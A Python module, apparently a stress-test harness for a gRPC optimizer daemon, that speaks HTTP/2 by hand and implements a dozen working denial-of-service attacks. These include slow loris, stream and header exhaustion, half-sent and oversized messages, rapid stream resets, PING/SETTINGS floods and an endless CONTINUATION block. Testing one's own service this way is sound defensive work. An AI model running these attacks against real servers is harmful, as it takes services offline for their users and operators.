"""A client that keeps to no rule: HTTP/2 by hand, over TCP or TLS, and attacks made of it."""

from __future__ import annotations

import contextlib
import os
import select
import socket
import ssl
import struct
import time
from collections.abc import Callable
from pathlib import Path

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SERVICE = "/mnemosyne.v1.OptimizerService/"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INITIAL_WINDOW_SIZE = 4
DEFAULT_WINDOW = 65_535
MESSAGE_BYTES = 4 << 20


def _text(value: bytes) -> bytes:
    """Returns a string of HPACK, not compressed."""
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, out = len(value) - 127, bytearray([127])
    while rest >= 128:
        out.append(rest % 128 + 128)
        rest //= 128
    return bytes(out) + bytes([rest]) + value


def header_block(path: str, metadata: dict[str, str]) -> bytes:
    """Returns the headers of a call, as literals that no table keeps."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "localhost",
        "content-type": "application/grpc",
        "te": "trailers",
        **metadata,
    }
    return b"".join(b"\0" + _text(k.encode()) + _text(v.encode()) for k, v in fields.items())


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Returns a frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


class Wire:
    """A connection; sends frames as they are given, within the windows that the daemon opens."""

    def __init__(
        self,
        address: str,
        *,
        metadata: dict[str, str] | None = None,
        tls: ssl.SSLContext | None = None,
        stream_window: int = DEFAULT_WINDOW,
    ):
        host, port = address.rsplit(":", 1)
        self.metadata = metadata or {}
        self.socket = socket.create_connection((host, int(port)), timeout=10)
        if tls is not None:
            self.socket = tls.wrap_socket(self.socket, server_hostname="localhost")
        self.socket.setblocking(False)
        self.closed = False
        self.next_stream = 1
        self.window = DEFAULT_WINDOW
        self.windows: dict[int, int] = {}
        self.initial_window = DEFAULT_WINDOW
        self.resets = 0
        self._in = b""
        setting = struct.pack(">HI", INITIAL_WINDOW_SIZE, stream_window)
        self.write(PREFACE + frame(SETTINGS, 0, 0, setting))

    def close(self) -> None:
        """Closes the connection without a word."""
        self.closed = True
        with contextlib.suppress(OSError):
            self.socket.close()

    def write(self, data: bytes, seconds: float = 5.0) -> bool:
        """Sends bytes; False if the daemon takes no more, or has closed the connection."""
        deadline = time.monotonic() + seconds
        view = memoryview(data)
        while view and not self.closed:
            try:
                view = view[self.socket.send(view) :]
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                if time.monotonic() > deadline:
                    return False
                select.select([], [self.socket], [], 0.05)
            except OSError:
                self.close()
        return not self.closed

    def open_stream(self, method: str, **metadata: str) -> int:
        """Sends the headers of a call; returns its stream."""
        stream = self.next_stream
        self.next_stream += 2
        block = header_block(SERVICE + method, {**self.metadata, **metadata})
        self.windows[stream] = self.initial_window
        self.write(frame(HEADERS, END_HEADERS, stream, block))
        return stream

    def send_data(self, stream: int, payload: bytes, *, last: bool = False) -> int:
        """Sends what the windows allow of a payload; returns how much that is."""
        room = min(self.window, self.windows.get(stream, 0), len(payload))
        sent = 0
        while sent < room and not self.closed:
            part = payload[sent : min(sent + 16_384, room)]
            end = END_STREAM if last and sent + len(part) == len(payload) else 0
            if not self.write(frame(DATA, end, stream, part)):
                break
            sent += len(part)
        self.window -= sent
        if stream in self.windows:
            self.windows[stream] -= sent
        return sent

    def reset(self, stream: int) -> None:
        """Takes a call back."""
        self.write(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))

    def pump(self) -> None:
        """Takes in what the daemon sent: windows, settings, pings, resets."""
        try:
            while data := self.socket.recv(1 << 16):
                self._in += data
            self.close()
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except OSError:
            self.close()
        while len(self._in) >= 9:
            size = int.from_bytes(self._in[:3], "big")
            if len(self._in) < 9 + size:
                return
            kind, flags, stream = struct.unpack(">BBI", self._in[3:9])
            self._take(kind, flags, stream, self._in[9 : 9 + size])
            self._in = self._in[9 + size :]

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == WINDOW_UPDATE:
            more = int.from_bytes(payload, "big")
            if stream == 0:
                self.window += more
            elif stream in self.windows:
                self.windows[stream] += more
        elif kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                key, value = struct.unpack(">HI", payload[at : at + 6])
                if key == INITIAL_WINDOW_SIZE:
                    for known in self.windows:
                        self.windows[known] += value - self.initial_window
                    self.initial_window = value
            self.write(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.write(frame(PING, ACK, 0, payload))
        elif kind == RST_STREAM:
            self.resets += 1
            self.windows.pop(stream, None)


class Attack:
    """Connections to one daemon that a subclass misuses, a round at a time."""

    connection_count = 16

    def __init__(
        self, address: str, metadata: dict[str, str], tls: ssl.SSLContext | None, **extra: bytes
    ):
        self.address, self.metadata, self.tls, self.extra = address, metadata, tls, extra
        self.wires: list[Wire] = []
        self.streams: dict[Wire, list[int]] = {}

    def connect(self, **options: int) -> Wire | None:
        """Opens one more connection, if the daemon takes it."""
        try:
            wire = Wire(self.address, metadata=self.metadata, tls=self.tls, **options)
        except OSError:
            return None
        self.wires.append(wire)
        self.streams[wire] = []
        return wire

    def drop_closed(self) -> None:
        """Forgets the connections that the daemon ended."""
        for wire in [w for w in self.wires if w.closed]:
            self.wires.remove(wire)
            del self.streams[wire]

    def fill(self, **options: int) -> None:
        """Opens connections until there are `connection_count`."""
        self.drop_closed()
        while len(self.wires) < self.connection_count:
            if self.connect(**options) is None:
                return

    def round(self) -> None:
        """Does some hundredths of a second of harm."""
        raise NotImplementedError

    def close(self) -> None:
        """Leaves."""
        for wire in self.wires:
            wire.close()


class IdleConnections(Attack):
    """Connections that say nothing, as many as can be had."""

    connection_count = 2000

    def __init__(self, *arguments, **extra):
        super().__init__(*arguments, **extra)
        self.sockets: list[socket.socket] = []

    def round(self) -> None:
        """Opens some, and forgets those that the daemon ended."""
        host, port = self.address.rsplit(":", 1)
        for _ in range(50):
            if len(self.sockets) >= self.connection_count:
                self.sockets.pop(0).close()
            with contextlib.suppress(OSError):
                self.sockets.append(socket.create_connection((host, int(port)), timeout=1))

    def close(self) -> None:
        """Leaves."""
        for each in self.sockets:
            each.close()


class SlowLoris(IdleConnections):
    """Connections that say a byte of their handshake now and then."""

    connection_count = 500
    hello = PREFACE

    def __init__(self, *arguments, **extra):
        super().__init__(*arguments, **extra)
        if self.tls is not None:
            # The beginning of a ClientHello that says it has 16,000 bytes.
            self.hello = b"\x16\x03\x01\x3e\x80\x01\x00\x3e\x7c\x03\x03" + bytes(16_000)
        self.said: dict[socket.socket, int] = {}

    def round(self) -> None:
        """Sends a byte on each."""
        super().round()
        for each in list(self.sockets):
            at = self.said.get(each, 0)
            if at + 1 >= len(self.hello):
                continue
            try:
                each.setblocking(False)
                each.send(self.hello[at : at + 1])
                self.said[each] = at + 1
            except BlockingIOError:
                continue
            except OSError:
                self.sockets.remove(each)
                self.said.pop(each, None)
                each.close()


class ManyStreams(Attack):
    """Calls that are opened and say nothing."""

    method = "Optimize"

    def round(self) -> None:
        """Opens calls on each connection."""
        self.fill()
        for wire in self.wires:
            wire.pump()
            for _ in range(20):
                if len(self.streams[wire]) < 2000:
                    self.streams[wire].append(wire.open_stream(self.method))


class BigHeaders(ManyStreams):
    """As ManyStreams, with as much metadata as is taken."""

    method = "Step"

    def round(self) -> None:
        """Opens calls on each connection."""
        self.fill()
        for wire in self.wires:
            wire.pump()
            for _ in range(20):
                if len(self.streams[wire]) < 2000:
                    self.streams[wire].append(
                        wire.open_stream(self.method, **{"x-big": "x" * 15_000})
                    )


class HalfMessages(Attack):
    """Messages of which all but the last byte is sent: each keeps its bytes in the daemon."""

    method = "Step"
    declared = MESSAGE_BYTES
    streams_each = 100

    def __init__(self, *arguments, **extra):
        super().__init__(*arguments, **extra)
        self.left: dict[tuple[Wire, int], int] = {}

    def round(self) -> None:
        """Sends what the windows allow."""
        self.fill()
        for wire in self.wires:
            wire.pump()
            if len(wire.windows) < self.streams_each:
                stream = wire.open_stream(self.method)
                self.left[wire, stream] = self.declared - 1
                wire.send_data(stream, b"\0" + struct.pack(">I", self.declared))
            for stream in list(wire.windows):
                part = bytes(min(1 << 20, self.left[wire, stream]))
                self.left[wire, stream] -= wire.send_data(stream, part)


class HalfStreamMessages(HalfMessages):
    """As HalfMessages, on streams."""

    method = "Optimize"


class HugeSizes(HalfMessages):
    """Messages that say they have 4 GiB."""

    declared = 0xFFFFFFFF


class Resets(Attack):
    """Calls that are taken back at once."""

    connection_count = 4

    def round(self) -> None:
        """Sends some hundred of them."""
        self.fill()
        for wire in self.wires:
            wire.pump()
            for _ in range(100):
                wire.reset(wire.open_stream("GetServerInfo"))


class Unread(Attack):
    """Calls with long answers, and no window to send them into."""

    method = "ListOptimizers"

    def round(self) -> None:
        """Asks, and reads nothing."""
        self.fill(stream_window=0)
        for wire in self.wires:
            wire.pump()
            for _ in range(20):
                if len(self.streams[wire]) < 2000:
                    stream = wire.open_stream(self.method)
                    self.streams[wire].append(stream)
                    wire.send_data(stream, bytes(5), last=True)


class Floods(Attack):
    """Pings and settings without end."""

    connection_count = 4

    def round(self) -> None:
        """Sends some hundred."""
        self.fill()
        for wire in self.wires:
            wire.write(frame(PING, 0, 0, bytes(8)) * 50 + frame(SETTINGS, 0, 0) * 50, 0.05)


class EndlessHeaders(Attack):
    """One block of headers that never ends."""

    def round(self) -> None:
        """Sends another piece of it."""
        self.fill()
        for wire in self.wires:
            wire.pump()
            if not self.streams[wire]:
                self.streams[wire].append(1)
                wire.write(frame(HEADERS, 0, 1, header_block(SERVICE + "Step", self.metadata)))
            piece = b"\0" + _text(b"x-more") + _text(b"x" * 8000)
            wire.write(frame(CONTINUATION, 0, 1, piece), 0.05)


class HalfSteps(Attack):
    """Streams of a session that is there, which begin a step and send no more."""

    def round(self) -> None:
        """Opens a stream, begins a step, and lets it lie."""
        self.fill()
        for wire in self.wires:
            wire.pump()
            if len(self.streams[wire]) < 200:
                stream = wire.open_stream("Optimize")
                self.streams[wire].append(stream)
                wire.send_data(stream, self.extra["half_step"])


ATTACKS: dict[str, type[Attack]] = {
    "idle connections": IdleConnections,
    "slow loris": SlowLoris,
    "many streams": ManyStreams,
    "big headers": BigHeaders,
    "half-sent messages": HalfMessages,
    "half-sent stream messages": HalfStreamMessages,
    "huge declared sizes": HugeSizes,
    "stream resets": Resets,
    "unread answers": Unread,
    "pings and settings": Floods,
    "endless headers": EndlessHeaders,
    "half-sent steps": HalfSteps,
}


def run(attack: Attack, seconds: float, more: Callable[[], bool] = lambda: True) -> int:
    """Runs rounds for a while; returns how many."""
    deadline, rounds = time.monotonic() + seconds, 0
    while time.monotonic() < deadline and more():
        attack.round()
        rounds += 1
    return rounds


def memory_bytes(pid: int, field: str = "VmRSS") -> int:
    """Returns how much memory a process has: VmRSS now, VmHWM at most so far."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1]) * 1024
    raise LookupError(field)


def reset_peak(pid: int) -> None:
    """Lets VmHWM begin anew."""
    Path(f"/proc/{pid}/clear_refs").write_text("5")


def be_humble() -> None:
    """Leaves the processor to the daemon and to its honest clients, as another machine would."""
    os.nice(19)
